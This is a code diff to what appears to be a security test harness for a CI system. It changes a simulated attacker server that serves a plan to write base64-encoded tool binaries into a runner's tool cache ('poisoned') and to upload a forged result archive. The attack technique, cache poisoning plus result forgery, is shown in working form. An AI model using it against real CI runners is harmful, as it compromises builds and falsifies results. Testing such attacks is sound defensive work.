@@ -1,5 +1,6 @@
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
+import { join } from "node:path";
 import { runtimeToken } from "../../../sandbox/results.ts";
 import { zipOf } from "../../app/results/zip.ts";
 import { runResult } from "../../report/run-result.ts";
@@ -54,7 +55,7 @@ for (const name of told.names) {
 }
 let poisoned = 0;
 for (const [name, bytes] of Object.entries(told.tools)) {
-  const path = /RUNNER_TOOL_CACHE=([^\0]+)/.exec(above)[1] + "/" + name;
+  const path = told.cache + "/" + name;
   mkdirSync(dirname(path), { recursive: true });
   writeFileSync(path, Buffer.from(bytes, "base64"));
   poisoned += 1;
@@ -89,6 +90,8 @@ export async function startAttacker(
       service: state.url,
       names: ["slipway-result-tiny", "slipway-score-tiny"],
       zip: forgedResult(run.id, run.headSha).toString("base64"),
+      // Where it lies is known: it is the same on all runners of a kind.
+      cache: join(state.folder, "tools"),
       tools: Object.fromEntries(files.map(([name, bytes]) => [name, bytes.toString("base64")])),
     };
     response.end(JSON.stringify(plan));
